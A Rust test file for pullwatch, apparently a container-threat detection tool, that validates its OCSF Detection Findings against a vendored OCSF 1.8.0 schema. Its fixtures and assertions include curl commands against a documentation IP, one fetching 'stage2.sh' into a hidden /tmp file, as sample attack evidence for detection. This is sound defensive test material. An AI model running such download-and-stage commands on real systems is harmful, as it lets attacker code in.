//! Validates pullwatch's OCSF Detection Findings against the OCSF 1.8.0 definition
//! files vendored in `tests/ocsf-schema/` (Apache-2.0, see its README and NOTICE).
//!
//! The validator compiles the class the way the schema defines it: `extends` chains
//! (detection_finding → finding → base_event, process → process_entity → _entity),
//! `$include`d profiles (whose attributes count only when the event lists the profile in
//! `metadata.profiles`), per-attribute `profile` tags, dictionary types and enums merged
//! with the class's or object's own. Each finding is then checked for: required
//! attributes, unknown attributes, `at_least_one`/`just_one` constraints, types down to
//! the primitive (with the types' regex, length and range limits), enum values, sibling
//! captions, and the generated classification (`class_uid`, `category_uid`, `type_uid`).

use pullwatch_decode::{open_path, DecodeOptions, DecodeStats, EventStream};
use pullwatch_engine::config::Config;
use pullwatch_engine::Engine;
use pullwatch_model::alert::{EvidenceApi, EvidenceContainer, EvidenceEndpoint, EvidenceProcess};
use pullwatch_model::{
    Alert, AlertEntity, AlertImage, Event, Evidence, Format, Severity, SourceRef, Ts,
};
use pullwatch_report::ocsf;
use serde_json::{Map, Value};
use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::{Path, PathBuf};
use std::sync::Arc;

fn find_file(dir: &Path, name: &str) -> Option<PathBuf> {
    for e in std::fs::read_dir(dir).ok()?.flatten() {
        let p = e.path();
        if p.is_dir() {
            if let Some(f) = find_file(&p, name) {
                return Some(f);
            }
        } else if p.file_name().is_some_and(|n| n == name) {
            return Some(p);
        }
    }
    None
}

fn schema_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/ocsf-schema")
}

fn load(path: &Path) -> Value {
    let text = std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("schema file {}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("schema file {}: {e}", path.display()))
}

/// Deep merge: maps merge key by key (so enums union and a child's keys win), anything
/// else is replaced.
fn merge(base: &mut Value, over: &Value) {
    match (base, over) {
        (Value::Object(b), Value::Object(o)) => {
            for (k, v) in o {
                match b.get_mut(k) {
                    Some(slot) => merge(slot, v),
                    None => {
                        b.insert(k.clone(), v.clone());
                    }
                }
            }
        }
        (b, o) => *b = o.clone(),
    }
}

#[derive(Clone, Debug)]
struct Compiled {
    /// Attribute name → merged definition (dictionary, then ancestors, then own).
    attrs: BTreeMap<String, Value>,
    constraints: Map<String, Value>,
}

struct Schema {
    root: PathBuf,
    dict: Map<String, Value>,
    types: Map<String, Value>,
    objects: RefCell<HashMap<String, Compiled>>,
    profiles: BTreeSet<String>,
    version: String,
    /// Generated enum of `observable.type_id`: every type, attribute and object that
    /// the schema marks `observable`.
    observable_types: Map<String, Value>,
    regexes: RefCell<HashMap<String, regex::Regex>>,
}

impl Schema {
    fn open() -> Schema {
        let root = schema_dir();
        let d = load(&root.join("dictionary.json"));
        let dict = d["attributes"]
            .as_object()
            .cloned()
            .expect("dictionary attributes");
        let types = d["types"]["attributes"]
            .as_object()
            .cloned()
            .expect("dictionary types");
        let profiles = std::fs::read_dir(root.join("profiles"))
            .expect("profiles dir")
            .filter_map(|e| e.ok())
            .filter_map(|e| {
                e.path()
                    .file_stem()
                    .and_then(|s| s.to_str())
                    .map(str::to_string)
            })
            .collect();
        let version = load(&root.join("version.json"))["version"]
            .as_str()
            .expect("version")
            .to_string();
        let mut observable_types = Map::new();
        let mut obs = |n: &Value, caption: &Value| {
            if let Some(n) = n.as_u64() {
                observable_types.insert(n.to_string(), serde_json::json!({ "caption": caption }));
            }
        };
        for v in types.values() {
            obs(&v["observable"], &v["caption"]);
        }
        for v in dict.values() {
            obs(&v["observable"], &v["caption"]);
        }
        for entry in std::fs::read_dir(root.join("objects")).expect("objects dir") {
            let o = load(&entry.expect("objects entry").path());
            obs(&o["observable"], &o["caption"]);
            if let Some(attrs) = o["attributes"].as_object() {
                for (k, a) in attrs {
                    let cap = dict
                        .get(k)
                        .map(|d| d["caption"].clone())
                        .unwrap_or(Value::Null);
                    obs(&a["observable"], &cap);
                }
            }
        }
        Schema {
            root,
            dict,
            types,
            objects: RefCell::new(HashMap::new()),
            profiles,
            version,
            observable_types,
            regexes: RefCell::new(HashMap::new()),
        }
    }

    /// Attributes of one definition file with its `$include`s expanded; attributes
    /// from a profile are tagged with it unless they say otherwise.
    fn own_attributes(&self, file: &Value) -> BTreeMap<String, Value> {
        let mut out: BTreeMap<String, Value> = BTreeMap::new();
        let attrs = file["attributes"].as_object().cloned().unwrap_or_default();
        if let Some(incs) = attrs.get("$include").and_then(Value::as_array) {
            for inc in incs {
                let inc = inc.as_str().expect("$include path");
                let f = load(&self.root.join(inc));
                let profile = (f["meta"] == "profile").then(|| f["name"].clone());
                for (k, v) in self.own_attributes(&f) {
                    let mut v = v;
                    if let (Some(p), Some(m)) = (&profile, v.as_object_mut()) {
                        m.entry("profile").or_insert_with(|| p.clone());
                    }
                    match out.get_mut(&k) {
                        Some(slot) => merge(slot, &v),
                        None => {
                            out.insert(k, v);
                        }
                    }
                }
            }
        }
        for (k, v) in attrs {
            if k == "$include" {
                continue;
            }
            match out.get_mut(&k) {
                Some(slot) => merge(slot, &v),
                None => {
                    out.insert(k, v);
                }
            }
        }
        out
    }

    fn compile_file(&self, file: &Value, parent: Option<Compiled>) -> Compiled {
        let mut c = parent.unwrap_or(Compiled {
            attrs: BTreeMap::new(),
            constraints: Map::new(),
        });
        for (k, v) in self.own_attributes(file) {
            match c.attrs.get_mut(&k) {
                Some(slot) => merge(slot, &v),
                None => {
                    c.attrs.insert(k, v);
                }
            }
        }
        if let Some(cons) = file["constraints"].as_object() {
            c.constraints = cons.clone();
        }
        c
    }

    fn object(&self, name: &str) -> Compiled {
        if let Some(c) = self.objects.borrow().get(name) {
            return c.clone();
        }
        let file = load(&self.root.join("objects").join(format!("{name}.json")));
        let parent = file["extends"].as_str().map(|p| self.object(p));
        let c = self.compile_file(&file, parent);
        self.objects
            .borrow_mut()
            .insert(name.to_string(), c.clone());
        c
    }

    /// A class from `events/` by name, with the category it has or inherits.
    fn class(&self, name: &str) -> (Compiled, Value, String) {
        let path = find_file(&self.root.join("events"), &format!("{name}.json"))
            .unwrap_or_else(|| panic!("no event class {name}"));
        let file = load(&path);
        let (parent, parent_cat) = match file["extends"].as_str() {
            Some(p) => {
                let (c, _, cat) = self.class(p);
                (Some(c), cat)
            }
            None => (None, String::new()),
        };
        let category = file["category"]
            .as_str()
            .map(str::to_string)
            .unwrap_or(parent_cat);
        let c = self.compile_file(&file, parent);
        (c, file, category)
    }

    /// The attribute as the event or object uses it: the dictionary entry with the
    /// class's or object's definition merged over it.
    fn resolve(&self, name: &str, local: &Value) -> Value {
        let mut def = self.dict.get(name).cloned().unwrap_or(Value::Null);
        if def.is_null() {
            def = Value::Object(Map::new());
        }
        merge(&mut def, local);
        def
    }

    fn regex(&self, pattern: &str) -> regex::Regex {
        let mut cache = self.regexes.borrow_mut();
        cache
            .entry(pattern.to_string())
            .or_insert_with(|| {
                regex::Regex::new(&format!("^(?:{pattern})$"))
                    .unwrap_or_else(|e| panic!("schema regex {pattern:?}: {e}"))
            })
            .clone()
    }
}

struct Check<'a> {
    schema: &'a Schema,
    profiles: BTreeSet<String>,
    errors: Vec<String>,
    warnings: Vec<String>,
}

impl Check<'_> {
    fn err(&mut self, path: &str, msg: impl std::fmt::Display) {
        self.errors.push(format!("{path}: {msg}"));
    }

    fn object(&mut self, v: &Value, c: &Compiled, path: &str) {
        let Some(obj) = v.as_object() else {
            self.err(path, format!("expected an object, got {v}"));
            return;
        };
        for (k, val) in obj {
            let p = if path.is_empty() {
                k.clone()
            } else {
                format!("{path}.{k}")
            };
            let local = match c.attrs.get(k) {
                Some(l) => l.clone(),
                None => {
                    // The datetime profile adds a `<name>_dt` twin (datetime_t) for every
                    // timestamp attribute.
                    let twin = k.strip_suffix("_dt").and_then(|base| {
                        let l = c.attrs.get(base)?;
                        let def = self.schema.resolve(base, l);
                        (def["type"] == "timestamp_t").then_some(())
                    });
                    match twin {
                        Some(()) if self.profiles.contains("datetime") => {
                            serde_json::json!({"type": "datetime_t", "requirement": "optional"})
                        }
                        Some(()) => {
                            self.err(&p, "datetime twin used without the datetime profile");
                            continue;
                        }
                        None => {
                            self.err(&p, "attribute not defined here by OCSF 1.8.0");
                            continue;
                        }
                    }
                }
            };
            if let Some(profile) = local["profile"].as_str() {
                if !self.profiles.contains(profile) {
                    self.err(
                        &p,
                        format!("belongs to profile {profile}, not listed in metadata.profiles"),
                    );
                }
            }
            let def = if local["type"] == "datetime_t" && !c.attrs.contains_key(k) {
                local
            } else {
                self.schema.resolve(k, &local)
            };
            if def.get("@deprecated").is_some() {
                self.warnings.push(format!(
                    "{p}: deprecated ({})",
                    def["@deprecated"]["message"]
                ));
            }
            self.attribute(val, &def, &p, obj);
        }
        for (k, local) in &c.attrs {
            let applies = match local["profile"].as_str() {
                Some(p) => self.profiles.contains(p),
                None => true,
            };
            if applies
                && local["requirement"] == "required"
                && obj.get(k).is_none_or(Value::is_null)
            {
                let p = if path.is_empty() {
                    k.clone()
                } else {
                    format!("{path}.{k}")
                };
                self.err(&p, "required attribute missing");
            }
        }
        let present = |names: &Value| -> usize {
            names
                .as_array()
                .map(|a| {
                    a.iter()
                        .filter_map(Value::as_str)
                        .filter(|n| obj.get(*n).is_some_and(|v| !v.is_null()))
                        .count()
                })
                .unwrap_or(0)
        };
        if let Some(names) = c.constraints.get("at_least_one") {
            if present(names) == 0 {
                self.err(path, format!("needs at least one of {names}"));
            }
        }
        if let Some(names) = c.constraints.get("just_one") {
            if present(names) != 1 {
                self.err(path, format!("needs exactly one of {names}"));
            }
        }
    }

    fn attribute(&mut self, v: &Value, def: &Value, path: &str, parent: &Map<String, Value>) {
        if v.is_null() {
            self.err(path, "null");
            return;
        }
        if def["is_array"] == true {
            let Some(items) = v.as_array() else {
                self.err(path, format!("expected an array, got {v}"));
                return;
            };
            for (i, item) in items.iter().enumerate() {
                self.value(item, def, &format!("{path}[{i}]"));
            }
        } else {
            if v.is_array() {
                self.err(path, "not an array attribute");
                return;
            }
            self.value(v, def, path);
        }
        // The sibling string of an enum attribute is the caption of its value (except
        // for Other, where the source's own word goes).
        if let (Some(enm), Some(sib)) = (def["enum"].as_object(), def["sibling"].as_str()) {
            let key = match v {
                Value::Number(n) => n.to_string(),
                Value::String(s) => s.clone(),
                _ => return,
            };
            if let (Some(text), Some(entry)) = (parent.get(sib), enm.get(&key)) {
                if key != "99" && text != &entry["caption"] {
                    self.err(
                        path,
                        format!(
                            "sibling {sib} is {text}, the caption of {key} is {}",
                            entry["caption"]
                        ),
                    );
                }
            }
        }
    }

    fn value(&mut self, v: &Value, def: &Value, path: &str) {
        let Some(t) = def["type"].as_str() else {
            self.err(path, "attribute has no type in the schema");
            return;
        };
        if self
            .schema
            .root
            .join("objects")
            .join(format!("{t}.json"))
            .is_file()
        {
            let c = self.schema.object(t);
            self.object(v, &c, path);
        } else {
            self.primitive(v, t, path);
        }
        if let Some(enm) = def["enum"].as_object() {
            let key = match v {
                Value::Number(n) => n.to_string(),
                Value::String(s) => s.clone(),
                other => {
                    self.err(
                        path,
                        format!("enum value must be a number or string, got {other}"),
                    );
                    return;
                }
            };
            if !enm.contains_key(&key) {
                let keys: Vec<&String> = enm.keys().collect();
                self.err(
                    path,
                    format!("{key} is not one of the enum values {keys:?}"),
                );
            }
        }
    }

    fn primitive(&mut self, v: &Value, t: &str, path: &str) {
        let mut chain = vec![t.to_string()];
        while let Some(base) = self
            .schema
            .types
            .get(chain.last().map(String::as_str).unwrap_or(""))
            .and_then(|d| d["type"].as_str())
        {
            chain.push(base.to_string());
            if chain.len() > 8 {
                break;
            }
        }
        let Some(base) = chain.last().cloned() else {
            return;
        };
        if !self.schema.types.contains_key(&base) {
            self.err(path, format!("unknown type {t}"));
            return;
        }
        let ok = match base.as_str() {
            "string_t" => v.is_string(),
            "integer_t" => v.as_i64().is_some_and(|n| i32::try_from(n).is_ok()),
            "long_t" => v.is_i64() || v.is_u64(),
            "float_t" => v.is_number(),
            "boolean_t" => v.is_boolean(),
            "json_t" => true,
            other => {
                self.err(path, format!("unhandled base type {other}"));
                return;
            }
        };
        if !ok {
            self.err(path, format!("{v} is not a valid {t} ({base})"));
            return;
        }
        for ty in &chain {
            let Some(d) = self.schema.types.get(ty) else {
                continue;
            };
            if let (Some(re), Some(s)) = (d["regex"].as_str(), v.as_str()) {
                if !self.schema.regex(re).is_match(s) {
                    self.err(path, format!("{s:?} does not match the {ty} pattern"));
                }
            }
            if let (Some(max), Some(s)) = (d["max_len"].as_u64(), v.as_str()) {
                if s.len() as u64 > max {
                    self.err(path, format!("longer than {max} ({ty})"));
                }
            }
            if let (Some(r), Some(n)) = (d["range"].as_array(), v.as_i64()) {
                let lo = r.first().and_then(Value::as_i64).unwrap_or(i64::MIN);
                let hi = r.get(1).and_then(Value::as_i64).unwrap_or(i64::MAX);
                if n < lo || n > hi {
                    self.err(path, format!("{n} outside {lo}..={hi} ({ty})"));
                }
            }
        }
    }
}

/// Validates one finding as an OCSF 1.8.0 Detection Finding. Returns (errors, warnings).
fn validate(schema: &Schema, finding: &Value) -> (Vec<String>, Vec<String>) {
    let (mut class, file, cat_name) = schema.class("detection_finding");
    let categories = load(&schema.root.join("categories.json"));
    let cat = &categories["attributes"][cat_name.as_str()];
    let cat_uid = cat["uid"].as_u64().expect("category uid");
    let class_uid = cat_uid * 1000 + file["uid"].as_u64().expect("class uid");
    let class_caption = file["caption"].clone();
    // The schema compiler generates these enums; the definition files only carry the
    // base event's placeholders.
    let mut gen = |name: &str, e: Value| {
        if let Some(a) = class.attrs.get_mut(name) {
            a["enum"] = e;
        }
    };
    gen(
        "category_uid",
        serde_json::json!({ cat_uid.to_string(): {"caption": cat["caption"]} }),
    );
    gen(
        "class_uid",
        serde_json::json!({ class_uid.to_string(): {"caption": class_caption} }),
    );
    let activity = schema.resolve("activity_id", &class.attrs["activity_id"]);
    let mut types = Map::new();
    for (k, v) in activity["enum"].as_object().into_iter().flatten() {
        let id: u64 = k.parse().expect("activity id");
        types.insert(
            (class_uid * 100 + id).to_string(),
            serde_json::json!({"caption": format!("{}: {}", class_caption.as_str().unwrap_or(""), v["caption"].as_str().unwrap_or(""))}),
        );
    }
    class.attrs.get_mut("type_uid").expect("type_uid")["enum"] = Value::Object(types);
    // `class_name`, `category_name` and `type_name` are the siblings of the generated ones.
    class.attrs.get_mut("category_uid").expect("category_uid")["sibling"] = "category_name".into();
    class.attrs.get_mut("class_uid").expect("class_uid")["sibling"] = "class_name".into();
    let mut observable = schema.object("observable");
    if let Some(t) = observable.attrs.get_mut("type_id") {
        merge(
            &mut t["enum"],
            &Value::Object(schema.observable_types.clone()),
        );
    }
    schema
        .objects
        .borrow_mut()
        .insert("observable".into(), observable);
    let mut profiles = BTreeSet::new();
    for p in finding["metadata"]["profiles"]
        .as_array()
        .into_iter()
        .flatten()
    {
        if let Some(p) = p.as_str() {
            profiles.insert(p.to_string());
        }
    }
    let mut check = Check {
        schema,
        profiles: profiles.clone(),
        errors: Vec::new(),
        warnings: Vec::new(),
    };
    for p in &profiles {
        if !schema.profiles.contains(p) {
            check.err("metadata.profiles", format!("unknown profile {p}"));
        }
    }
    if finding["metadata"]["version"] != schema.version.as_str() {
        check.err("metadata.version", format!("not {}", schema.version));
    }
    check.object(finding, &class, "");
    (check.errors, check.warnings)
}

/// The bundled examples through decode and engine, merged by event time as the CLI does.
fn example_alerts() -> Vec<Alert> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples");
    let mut files = Vec::new();
    let mut stack = vec![dir];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("examples dir") {
            let p = e.expect("entry").path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_none_or(|x| x != "md") {
                files.push(p);
            }
        }
    }
    files.sort();
    let mut events: Vec<Event> = Vec::new();
    let mut stats = DecodeStats::default();
    for f in files {
        let mut s = EventStream::new(
            open_path(&f).expect("open example"),
            DecodeOptions::default(),
        );
        while s.fill(&mut events, &mut stats, 1024).expect("read example") {}
    }
    events.sort_by(|a, b| {
        (a.time, a.stage_rank(), &a.source.path, a.source.line).cmp(&(
            b.time,
            b.stage_rank(),
            &b.source.path,
            b.source.line,
        ))
    });
    let mut engine = Engine::new(Config::default());
    let mut alerts = Vec::new();
    for ev in events {
        engine.push(ev, &mut alerts);
    }
    engine.finish(&mut alerts);
    alerts
}

/// An alert that uses every structured evidence field and the cloud context, so the
/// mapping of each is validated even where the bundled examples do not reach it.
fn rich_alert() -> Alert {
    let src = |format, line| SourceRef {
        format,
        path: Arc::from("synthetic.jsonl"),
        line,
    };
    let mut pull = Evidence::new(
        "pull",
        Ts(1_795_166_400_000_000_000),
        src(Format::DockerEvents, 1),
        "docker image pull".into(),
    );
    pull.image = Some(
        "ghcr.io/x/y:2@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
            .into(),
    );
    let mut admit = Evidence::new(
        "create",
        Ts(1_795_166_399_000_000_000),
        src(Format::K8sAudit, 2),
        "pod admitted".into(),
    );
    admit.host = Some("node-1".into());
    admit.container = Some(EvidenceContainer {
        pod: Some("web".into()),
        namespace: Some("default".into()),
        ..EvidenceContainer::default()
    });
    admit.api = Some(EvidenceApi {
        service: "kubernetes".into(),
        operation: "create".into(),
        resource: Some("pods".into()),
        actor: Some("alice".into()),
    });
    let mut start = Evidence::new(
        "start",
        Ts(1_795_166_401_000_000_000),
        src(Format::DockerEvents, 3),
        "start".into(),
    );
    start.container = Some(EvidenceContainer {
        id: Some("c0ffee00d15e".into()),
        name: Some("web".into()),
        ..EvidenceContainer::default()
    });
    start.image = Some("ghcr.io/x/y:2".into());
    let mut exec = Evidence::new(
        "activity",
        Ts(1_795_166_402_000_000_000),
        src(Format::Falco, 4),
        "exec".into(),
    );
    exec.host = Some("node-1".into());
    exec.process = Some(EvidenceProcess {
        pid: Some(4242),
        ppid: Some(4200),
        exe: "/usr/bin/curl".into(),
        cmdline: "curl -s http://198.51.100.23/".into(),
        parent_exe: Some("/bin/sh".into()),
        user: Some("root".into()),
    });
    let mut conn = Evidence::new(
        "activity",
        Ts(1_795_166_403_000_000_000),
        src(Format::VpcFlow, 5),
        "connect".into(),
    );
    conn.src = Some(EvidenceEndpoint {
        ip: "10.0.3.17".parse().expect("ip"),
        port: Some(51514),
    });
    conn.dst = Some(EvidenceEndpoint {
        ip: "2001:db8::1".parse().expect("ip"),
        port: Some(443),
    });
    conn.protocol = Some("tcp".into());
    conn.instance_id = Some("i-0123456789abcdef0".into());
    conn.process = Some(EvidenceProcess {
        exe: "/usr/bin/wget".into(),
        ..EvidenceProcess::default()
    });
    Alert {
        rule: "an0692.chain",
        analytic: "AN0692",
        technique: "T1204.003",
        severity: Severity::Low,
        time: Ts(1_795_166_403_000_000_000),
        entity: AlertEntity {
            host: Some("node-1".into()),
            container_id: Some("c0ffee00d15e".into()),
            namespace: Some("default".into()),
            pod: Some("web".into()),
            container: Some("web".into()),
            instance_id: Some("i-0123456789abcdef0".into()),
            cloud: Some("aws".into()),
            account: Some("123456789012".into()),
            region: Some("us-east-1".into()),
            file: None,
        },
        image: AlertImage {
            reference: "ghcr.io/x/y:2".into(),
            digest: Some(
                "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".into(),
            ),
            registry: Some("ghcr.io".into()),
            owner: None,
        },
        reasons: vec!["synthetic".into()],
        evidence: vec![admit, pull, start, exec, conn],
    }
}

fn as_value(a: &Alert) -> Value {
    serde_json::from_str(&ocsf::finding_line(a)).expect("finding is JSON")
}

fn assert_valid(schema: &Schema, v: &Value) {
    let (errors, _) = validate(schema, v);
    assert!(
        errors.is_empty(),
        "invalid finding:\n{}\n{v:#}",
        errors.join("\n")
    );
}

#[test]
fn every_example_finding_is_a_valid_detection_finding() {
    let schema = Schema::open();
    let alerts = example_alerts();
    assert_eq!(alerts.len(), 4, "the bundled examples raise four alerts");
    for a in &alerts {
        let v = as_value(a);
        assert_valid(&schema, &v);
        assert_eq!(v["class_uid"], 2004);
        assert_eq!(
            v["evidences"].as_array().map(Vec::len),
            Some(a.evidence.len())
        );
        assert_eq!(
            v["finding_info"]["related_events"].as_array().map(Vec::len),
            Some(a.evidence.len())
        );
    }
    let kube = alerts
        .iter()
        .map(as_value)
        .find(|v| v["severity_id"] == 5)
        .expect("the critical Kubernetes chain");
    let ev = kube["evidences"].as_array().expect("evidences");
    let exec = ev.last().expect("activity evidence");
    assert_eq!(exec["process"]["pid"], 40377);
    assert_eq!(exec["process"]["file"]["path"], "/usr/bin/curl");
    assert_eq!(
        exec["process"]["cmd_line"],
        "/usr/bin/curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"
    );
    assert_eq!(exec["container"]["name"], "worker");
    assert_eq!(exec["device"]["hostname"], "ip-10-0-3-17");
}

#[test]
fn every_mapped_field_is_valid_including_the_cloud_profile() {
    let schema = Schema::open();
    let v = as_value(&rich_alert());
    assert_valid(&schema, &v);
    assert_eq!(
        v["metadata"]["profiles"],
        serde_json::json!(["datetime", "cloud"])
    );
    assert_eq!(v["cloud"]["provider"], "aws");
    let ev = &v["evidences"];
    assert_eq!(ev[0]["api"]["operation"], "create pods");
    assert_eq!(ev[0]["actor"]["user"]["name"], "alice");
    assert_eq!(ev[1]["resources"][0]["type"], "Container Image");
    assert_eq!(ev[2]["container"]["image"]["uid"], "ghcr.io/x/y:2");
    assert_eq!(ev[2]["container"]["image"]["tag"], "2");
    assert_eq!(ev[3]["process"]["parent_process"]["pid"], 4200);
    assert_eq!(ev[4]["dst_endpoint"]["ip"], "2001:db8::1");
    assert_eq!(ev[4]["connection_info"]["direction_id"], 2);
    let obs: Vec<(&str, &str)> = v["observables"]
        .as_array()
        .expect("observables")
        .iter()
        .map(|o| {
            (
                o["name"].as_str().unwrap_or(""),
                o["value"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert!(obs.contains(&("device.hostname", "node-1")));
    assert!(obs.contains(&("evidences.dst_endpoint.ip", "2001:db8::1")));
    assert!(obs.contains(&("evidences.src_endpoint.ip", "10.0.3.17")));
    assert!(obs
        .iter()
        .any(|(n, val)| *n == "resources.uid" && val.starts_with("sha256:")));
}

/// Each mutation breaks one rule of the schema; the validator must name it.
#[test]
fn the_validator_catches_what_the_schema_forbids() {
    let schema = Schema::open();
    let base = as_value(&rich_alert());
    type Mutation = Box<dyn Fn(&mut Value)>;
    let cases: Vec<(&str, Mutation, &str)> = vec![
        (
            "missing required finding_info.uid",
            Box::new(|v| {
                v["finding_info"].as_object_mut().map(|o| o.remove("uid"));
            }),
            "finding_info.uid: required attribute missing",
        ),
        (
            "missing required metadata.product",
            Box::new(|v| {
                v["metadata"].as_object_mut().map(|o| o.remove("product"));
            }),
            "metadata.product: required attribute missing",
        ),
        (
            "missing required time",
            Box::new(|v| {
                v.as_object_mut().map(|o| o.remove("time"));
            }),
            "time: required attribute missing",
        ),
        (
            "missing required image uid, two objects deep",
            Box::new(|v| {
                v["evidences"][2]["container"]["image"]
                    .as_object_mut()
                    .map(|o| o.remove("uid"));
            }),
            "evidences[2].container.image.uid: required attribute missing",
        ),
        (
            "missing cloud.provider required by the applied cloud profile",
            Box::new(|v| {
                v["cloud"].as_object_mut().map(|o| o.remove("provider"));
            }),
            "cloud.provider: required attribute missing",
        ),
        (
            "enum value out of range",
            Box::new(|v| v["severity_id"] = 7.into()),
            "severity_id: 7 is not one of the enum values",
        ),
        (
            "sibling caption mismatch",
            Box::new(|v| v["severity"] = "Informational".into()),
            "sibling severity",
        ),
        (
            "wrong type",
            Box::new(|v| v["time"] = "yesterday".into()),
            "time: \"yesterday\" is not a valid timestamp_t",
        ),
        (
            "integer_t out of 32-bit range",
            Box::new(|v| v["evidences"][3]["process"]["pid"] = 5_000_000_000u64.into()),
            "evidences[3].process.pid",
        ),
        (
            "malformed ip_t",
            Box::new(|v| v["evidences"][4]["dst_endpoint"]["ip"] = "not-an-ip".into()),
            "does not match the ip_t pattern",
        ),
        (
            "port out of range",
            Box::new(|v| v["evidences"][4]["dst_endpoint"]["port"] = 70000.into()),
            "outside 0..=65535",
        ),
        (
            "unknown attribute",
            Box::new(|v| v["finding_info"]["verdict_of_pullwatch"] = true.into()),
            "finding_info.verdict_of_pullwatch: attribute not defined",
        ),
        (
            "array attribute given a scalar",
            Box::new(|v| v["evidences"] = "pull".into()),
            "evidences: expected an array",
        ),
        (
            "cloud profile attribute without the profile",
            Box::new(|v| v["metadata"]["profiles"] = serde_json::json!(["datetime"])),
            "cloud: belongs to profile cloud",
        ),
        (
            "datetime twin without the datetime profile",
            Box::new(|v| v["metadata"]["profiles"] = serde_json::json!(["cloud"])),
            "time_dt: datetime twin used without the datetime profile",
        ),
        (
            "evidence with none of its at_least_one attributes",
            Box::new(|v| v["evidences"][0] = serde_json::json!({"name": "pull"})),
            "evidences[0]: needs at least one of",
        ),
        (
            "process with neither pid nor uid",
            Box::new(|v| {
                v["evidences"][3]["process"]
                    .as_object_mut()
                    .map(|o| o.remove("pid"));
            }),
            "evidences[3].process: needs at least one of",
        ),
        (
            "wrong generated class",
            Box::new(|v| v["type_uid"] = 200407.into()),
            "type_uid: 200407 is not one of the enum values",
        ),
        (
            "wrong schema version",
            Box::new(|v| v["metadata"]["version"] = "1.7.0".into()),
            "metadata.version",
        ),
    ];
    for (what, mutate, expect) in cases {
        let mut v = base.clone();
        mutate(&mut v);
        let (errors, _) = validate(&schema, &v);
        assert!(
            errors.iter().any(|e| e.contains(expect)),
            "{what}: expected an error containing {expect:?}, got {errors:#?}"
        );
    }
}

#[test]
fn the_finding_uid_is_the_same_in_every_run() {
    let first: Vec<String> = example_alerts().iter().map(ocsf::finding_uid).collect();
    let second: Vec<String> = example_alerts().iter().map(ocsf::finding_uid).collect();
    assert_eq!(first, second);
    let unique: BTreeSet<&String> = first.iter().collect();
    assert_eq!(unique.len(), first.len(), "each chain has its own uid");
}
